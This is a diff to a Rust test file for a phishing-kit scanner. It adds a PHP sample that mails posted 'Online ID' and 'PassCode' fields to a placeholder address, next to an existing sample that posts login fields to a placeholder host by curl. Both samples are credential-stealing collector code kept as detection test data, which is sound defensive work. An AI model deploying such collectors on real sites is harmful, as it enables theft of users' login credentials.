@@ -808,6 +808,10 @@ fn a_collector_of_tersely_labelled_or_coded_fields_is_found() {
     let coded = "<?php $m = \"Identifiant : \" . $_POST['AK12'] . \"\\n\"; $m .= \"Code Secret : \" . $_POST['AK13'];\n\
                  $c = curl_init('https://example.invalid/x'); curl_setopt($c, CURLOPT_POSTFIELDS, $m); curl_exec($c);";
     assert!(found(coded).contains(&Why::CredentialCollector), "{:?}", found(coded));
+    // Field names numbered as a page builder names them.
+    let numbered = "<?php $m = \"Online ID : \" . $_POST['formtext1'] . \"\\n\"; $m .= \"PassCode : \" . $_POST['formtext2'];\n\
+                    mail('drop@example.invalid', 'x', $m);";
+    assert!(found(numbered).contains(&Why::CredentialCollector), "{:?}", found(numbered));
     let fixture = include_str!("../../../tests/fixtures/sweep/malicious/collector_coded_fields_to_chat.php");
     assert!(found(fixture).contains(&Why::CredentialCollector), "{:?}", found(fixture));
 }
